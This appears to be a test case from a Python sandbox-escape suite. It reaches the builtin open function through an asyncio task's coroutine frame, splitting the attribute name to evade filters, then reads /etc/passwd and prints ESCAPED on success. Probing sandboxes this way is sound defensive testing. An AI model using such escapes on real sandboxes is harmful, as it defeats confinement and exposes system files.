# tries: a task gives its coroutine, and that its frame
# class: async
# stops: 1 2 3 4
import asyncio


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


async def main():
    use(pick(asyncio.current_task().get_coro().cr_frame))


asyncio.run(main())
